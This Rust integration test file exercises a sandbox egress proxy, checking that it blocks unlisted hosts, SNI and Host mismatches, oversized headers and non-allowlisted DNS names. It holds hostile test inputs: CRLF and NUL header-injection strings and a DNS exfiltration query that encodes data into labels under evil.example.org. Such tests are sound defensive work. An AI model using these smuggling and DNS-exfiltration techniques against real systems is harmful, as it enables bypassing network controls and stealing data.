//! The egress proxy's checks on where traffic goes: destinations are checked before anything is
//! sent, every inner request of a tunnel is checked on its own, and in transparent mode the host
//! is taken from SNI while DNS answers only allowlisted names.
//!
//! Real parts, as root: real network namespaces and veths, a fake HTTPS upstream in its own
//! netns, the proxy on the host side of a "client" netns that plays the sandbox, and real
//! clients (curl, and raw rustls/TCP clients made inside the client netns).

use std::time::Duration;

use testkit::egress::*;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

#[test]
fn destinations_are_checked_before_anything_is_sent() {
    testkit::privileged(
        "destinations_are_checked_before_anything_is_sent",
        4,
        || async {
            let fx = Fixture::new(limits()).await;
            let connect_code = |url: &str| {
                let out = fx.curl(&["-o", "/dev/null", "-w", "%{http_connect}", url]);
                out.text()
            };
            assert_eq!(connect_code("https://notlisted.test.example/"), "403");
            assert_eq!(
                connect_code(&format!("https://{}/", fx.net.upstream_ip())),
                "403"
            );
            assert_eq!(connect_code("https://api.test.example:8443/"), "403");
            assert_eq!(connect_code("https://loop.test.example/"), "403");
            assert_eq!(connect_code("https://meta.test.example/"), "403");
            assert_eq!(connect_code("https://pool.test.example/"), "403");
            // Plain HTTP: refused for a host not allowed over HTTP.
            let plain = fx.curl(&[
                "-o",
                "/dev/null",
                "-w",
                "%{http_code}",
                "http://api.test.example/",
            ]);
            assert_eq!(plain.text(), "403");

            // SNI other than the CONNECT host: the handshake is dropped, no certificate minted.
            let (s, head) = connect_tunnel(&fx, "api.test.example:443").await;
            assert!(head.starts_with("HTTP/1.1 200"), "{head}");
            let before = fx.shared.leaf_cache_stats();
            let tls = tls_client(s, fx.cacert(), "other.test.example", &[b"http/1.1"]).await;
            assert!(tls.is_err(), "SNI mismatch accepted");
            let after = fx.shared.leaf_cache_stats();
            assert_eq!(
                before.misses, after.misses,
                "a leaf was minted for an unchecked SNI"
            );
            // The same through curl (--connect-to: CONNECT other, SNI api).
            let ct = fx.curl(&[
                "--connect-to",
                "api.test.example:443:other.test.example:443",
                "https://api.test.example/",
            ]);
            assert_ne!(ct.code, 0, "curl --connect-to got through");

            // Attribution: a connection from any address other than the sandbox's is refused.
            let from_host = in_netns_host_connect(fx.proxy.local_addr()).await;
            assert!(
                from_host.is_empty() || !from_host.starts_with("HTTP/1.1 200"),
                "{from_host}"
            );

            // Nothing of this reached the upstream.
            assert!(fx.upstream.seen().is_empty(), "{:?}", fx.upstream.seen());

            let events = fx.audit().await;
            for (target, reason) in [
                ("notlisted.test.example:443", "not on the egress allowlist"),
                ("10.240.", "IP-literal"),
                ("api.test.example:8443", "port not allowed"),
                ("loop.test.example:443", "forbidden address"),
                ("meta.test.example:443", "forbidden address"),
                ("pool.test.example:443", "forbidden address"),
                ("api.test.example:80", "plain HTTP not allowed"),
                ("api.test.example:443", "SNI differs"),
                ("other.test.example:443", "SNI differs"),
                ("", "not from the sandbox's address"),
            ] {
                assert!(
                    denied_with(&events, target, reason),
                    "no denial {target} {reason}: {events:#?}"
                );
            }
        },
    );
}

/// Connects to the proxy from the host's own namespace (source N.1, not N.2).
async fn in_netns_host_connect(proxy: std::net::SocketAddr) -> String {
    let mut s = tokio::net::TcpStream::connect(proxy).await.unwrap();
    let _ = s
        .write_all(b"CONNECT api.test.example:443 HTTP/1.1\r\nHost: api.test.example:443\r\n\r\n")
        .await;
    let mut buf = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(5), s.read_to_end(&mut buf)).await;
    String::from_utf8_lossy(&buf).into_owned()
}

#[test]
fn every_inner_request_is_checked() {
    testkit::privileged("every_inner_request_is_checked", 4, || async {
        let fx = Fixture::new(limits()).await;
        let status = |args: &[&str]| {
            let mut all = vec!["-o", "/dev/null", "-w", "%{http_code}"];
            all.extend_from_slice(args);
            fx.curl(&all).text()
        };
        let api = "https://api.test.example/";
        // Host / :authority other than the SNI.
        assert_eq!(
            status(&["--http1.1", "-H", "Host: other.test.example", api]),
            "403"
        );
        assert_eq!(
            status(&["--http2", "-H", "Host: other.test.example", api]),
            "403"
        );
        // CONNECT and absolute-form inside the tunnel.
        assert_eq!(status(&["--http1.1", "-X", "CONNECT", api]), "403");
        assert_eq!(
            status(&[
                "--http1.1",
                "--request-target",
                "https://other.test.example/",
                api
            ]),
            "403"
        );
        // Oversized headers: 431 inside the tunnel and on the proxy port.
        let huge = format!("X-Big: {}", "a".repeat(100 * 1024));
        let code = status(&["--http1.1", "-H", &huge, api]);
        assert_eq!(
            code,
            "431",
            "{:#?} {:#?}",
            fx.audit().await,
            fx.upstream.seen().len()
        );
        let outer = fx.curl(&[
            "-o",
            "/dev/null",
            "-w",
            "%{http_connect}",
            "--proxy-header",
            &huge,
            api,
        ]);
        assert_eq!(outer.text(), "431", "{}", outer.stderr);
        let h2_huge = fx.curl(&[
            "--http2",
            "-o",
            "/dev/null",
            "-w",
            "%{http_code}",
            "-H",
            &huge,
            api,
        ]);
        assert_ne!(h2_huge.text(), "200", "h2 oversized headers accepted");

        // Raw HTTP/1.1 over an intercepted tunnel: keep-alive, then another Host on the same
        // connection.
        let mut t = h1_tunnel(&fx, "api.test.example").await;
        let head = raw_exchange(
            &mut t,
            b"GET /one HTTP/1.1\r\nHost: api.test.example\r\n\r\n",
        )
        .await;
        assert!(head.starts_with("HTTP/1.1 200"), "{head}");
        let _ = read_body(&mut t, &head).await;
        let head = raw_exchange(
            &mut t,
            b"GET /two HTTP/1.1\r\nHost: other.test.example\r\n\r\n",
        )
        .await;
        assert!(head.starts_with("HTTP/1.1 403"), "{head}");
        let _ = read_body(&mut t, &head).await;
        // Absolute-form and CRLF/NUL injection on raw connections.
        let head = raw_exchange(
            &mut t,
            b"GET https://other.test.example/ HTTP/1.1\r\nHost: api.test.example\r\n\r\n",
        )
        .await;
        assert!(head.starts_with("HTTP/1.1 403"), "{head}");
        let mut t = h1_tunnel(&fx, "api.test.example").await;
        let head = raw_exchange(
            &mut t,
            b"GET /crlf HTTP/1.1\r\nHost: api.test.example\r\nX-Evil: a\rInjected: b\r\n\r\n",
        )
        .await;
        assert!(
            head.starts_with("HTTP/1.1 400") || head.contains("error"),
            "{head}"
        );
        let mut t = h1_tunnel(&fx, "api.test.example").await;
        let head = raw_exchange(
            &mut t,
            b"GET /nul HTTP/1.1\r\nHost: api.test.example\r\nX-Evil: a\0b\r\n\r\n",
        )
        .await;
        assert!(
            head.starts_with("HTTP/1.1 400") || head.contains("error"),
            "{head}"
        );
        // CRLF in the CONNECT line itself.
        let (_s, head) = connect_tunnel(&fx, "api.test.example:443\r\nX-Injected: 1").await;
        assert!(!head.starts_with("HTTP/1.1 200"), "{head}");

        let seen = fx.upstream.seen();
        assert_eq!(
            seen.iter()
                .map(|s| s.path_and_query.as_str())
                .collect::<Vec<_>>(),
            ["/one"],
            "{seen:#?}"
        );
        let events = fx.audit().await;
        for reason in [
            "Host/:authority differs",
            "CONNECT inside a tunnel",
            "not origin-form",
        ] {
            assert!(
                denied_with(&events, "api.test.example:443", reason),
                "{reason}: {events:#?}"
            );
        }
    });
}

#[test]
fn transparent_mode_takes_the_host_from_sni_and_dns_answers_only_allowlisted_names() {
    testkit::privileged(
        "transparent_mode_takes_the_host_from_sni_and_dns_answers_only_allowlisted_names",
        4,
        || async {
            let fx = Fixture::new(limits()).await;
            let n1 = fx.net.proxy_ip();
            let tls_listener = std::net::TcpListener::bind((n1, 443)).unwrap();
            fx.proxy.adopt_transparent_listener(tls_listener).unwrap();
            let udp = std::net::UdpSocket::bind((n1, 53)).unwrap();
            let tcp = std::net::TcpListener::bind((n1, 53)).unwrap();
            fx.proxy.adopt_dns(Some(udp), Some(tcp), n1).unwrap();

            // No proxy variables: curl resolves through our DNS (via --dns-servers if available, else
            // --resolve with the answer we check separately) and connects to N.1:443.
            let answer = dns_query(&fx, "api.test.example", 1).await;
            assert_eq!(answer[3] & 0x0f, 0, "NOERROR");
            assert_eq!(&answer[answer.len() - 4..], &n1.octets());
            let resolve = format!("api.test.example:443:{n1}");
            let ca = fx.cacert().to_string_lossy().into_owned();
            for v in ["--http1.1", "--http2"] {
                let out = fx.curl_raw(&[
                    "-sS",
                    "--max-time",
                    "20",
                    v,
                    "--cacert",
                    &ca,
                    "--resolve",
                    &resolve,
                    "-H",
                    &format!("Authorization: Bearer {}", fx.token_ph()),
                    "https://api.test.example/echo",
                ]);
                assert_eq!(out.code, 0, "{}", out.stderr);
                assert!(!contains(&out.stdout, TOKEN_VALUE.as_bytes()));
                let last = fx.upstream.seen().last().unwrap().clone();
                assert_eq!(
                    last.header("authorization"),
                    Some(format!("Bearer {TOKEN_VALUE}").as_bytes())
                );
            }
            // SNI of a host not on the allowlist: dropped.
            let bad = fx.curl_raw(&[
                "-sS",
                "--max-time",
                "10",
                "--cacert",
                &ca,
                "--resolve",
                &format!("notlisted.test.example:443:{n1}"),
                "https://notlisted.test.example/",
            ]);
            assert_ne!(bad.code, 0);
            // An allowlisted name that resolves to a forbidden address: dropped.
            let lo = fx.curl_raw(&[
                "-sS",
                "--max-time",
                "10",
                "--cacert",
                &ca,
                "--resolve",
                &format!("loop.test.example:443:{n1}"),
                "https://loop.test.example/",
            ]);
            assert_ne!(lo.code, 0);

            // DNS: other names NXDOMAIN for every type; TXT and long labels never forwarded.
            assert_eq!(dns_query(&fx, "evil.example.org", 1).await[3] & 0x0f, 3);
            assert_eq!(dns_query(&fx, "evil.example.org", 16).await[3] & 0x0f, 3);
            assert_eq!(
                dns_query(&fx, "api.test.example", 16).await[3] & 0x0f,
                5,
                "TXT refused"
            );
            let exfil = format!(
                "{}.{}.evil.example.org",
                "6b6579".repeat(10),
                "a".repeat(63)
            );
            assert_eq!(dns_query(&fx, &exfil, 1).await[3] & 0x0f, 3);

            let events = fx.audit().await;
            assert!(
                events
                    .iter()
                    .any(|e| e.action == "egress.connect" && e.detail.contains("kind=transparent"))
            );
            assert!(denied_with(
                &events,
                "notlisted.test.example",
                "not on the egress allowlist"
            ));
            assert!(denied_with(
                &events,
                "loop.test.example:443",
                "forbidden address"
            ));
            assert!(denied_with(&events, "evil.example.org", "kind=dns"));
        },
    );
}

/// One DNS query over UDP from the client netns to N.1:53.
async fn dns_query(fx: &Fixture, name: &str, qtype: u16) -> Vec<u8> {
    let mut q = vec![0xab, 0xcd, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        q.push(label.len() as u8);
        q.extend_from_slice(label.as_bytes());
    }
    q.push(0);
    q.extend_from_slice(&qtype.to_be_bytes());
    q.extend_from_slice(&1u16.to_be_bytes());
    let server = std::net::SocketAddr::from((fx.net.proxy_ip(), 53));
    let sock = in_netns(&fx.net.client_ns, || {
        std::net::UdpSocket::bind("0.0.0.0:0").unwrap()
    });
    sock.set_read_timeout(Some(Duration::from_secs(3))).unwrap();
    sock.send_to(&q, server).unwrap();
    let mut buf = [0u8; 1024];
    let n = sock.recv(&mut buf).expect("DNS reply");
    assert_eq!(&buf[..2], &[0xab, 0xcd]);
    buf[..n].to_vec()
}
